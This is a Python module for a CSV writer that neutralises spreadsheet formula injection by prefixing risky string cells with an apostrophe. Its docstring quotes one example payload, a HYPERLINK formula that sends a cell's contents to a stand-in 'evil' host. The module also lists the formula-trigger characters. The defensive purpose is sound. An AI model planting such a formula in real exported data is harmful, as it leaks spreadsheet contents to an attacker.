"""CSV that is safe to open in a spreadsheet: the one writer the CLI, the export and the web use.

A text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is
read by Excel, LibreOffice and Google Sheets as a formula, so an article title
like `=HYPERLINK("http://evil/?"&A1, "click")` would run when an analyst opens
the download (OWASP "CSV injection"). Such cells get a leading apostrophe,
which spreadsheets show as text. Only strings are touched: a negative number
(a quantity, a value) stays a number. Nested values (a dispute's stances) are
written as JSON, never as Python reprs (issue 14, section 4).
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import numbers
from collections.abc import Iterable, Sequence
from typing import IO, TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pyarrow as pa

#: First characters that make a spreadsheet evaluate a cell.
FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_REGEX = r"^[=+\-@\t\r]"


def neutralise(text: str) -> str:
    """`text` with a leading apostrophe if a spreadsheet would run it as a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def cell(value: Any) -> str | int | float:
    """One CSV cell: None is empty, lists/dicts/tuples are JSON, strings are neutralised, numbers stay numbers."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, numbers.Number):  # int, float, Decimal: numbers stay numbers, "-5" included
        return value if isinstance(value, int | float) else str(value)
    if isinstance(value, list | tuple | dict):
        return neutralise(json.dumps(_plain(value), ensure_ascii=False, default=str))
    return neutralise(str(value))


def _plain(value: Any) -> Any:
    """Dataclasses inside nested values (dispute stances) as dicts, so they serialise as JSON objects."""
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        return {k: _plain(v) for k, v in dataclasses.asdict(value).items()}
    if isinstance(value, list | tuple):
        return [_plain(v) for v in value]
    if isinstance(value, dict):
        return {str(k): _plain(v) for k, v in value.items()}
    return value


def row(values: Iterable[Any]) -> str:
    """One CSV line (with its newline) of safe cells."""
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow([cell(v) for v in values])
    return buf.getvalue()


def write(out: IO[str], columns: Sequence[str], rows: Iterable[Sequence[Any]]) -> None:
    """A header and safe rows to a text stream."""
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([neutralise(str(c)) for c in columns])
    for values in rows:
        writer.writerow([cell(v) for v in values])


def neutralise_arrow(array: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """The same neutralising for a pyarrow column (the CSV export); non-string columns come back as they are."""
    import pyarrow as pa
    import pyarrow.compute as pc

    if not (pa.types.is_string(array.type) or pa.types.is_large_string(array.type)):
        return array
    risky = pc.fill_null(pc.match_substring_regex(array, _FORMULA_REGEX), False)
    quoted = pc.binary_join_element_wise(pa.scalar("'", array.type), array, pa.scalar("", array.type))
    return pc.if_else(risky, quoted, array)
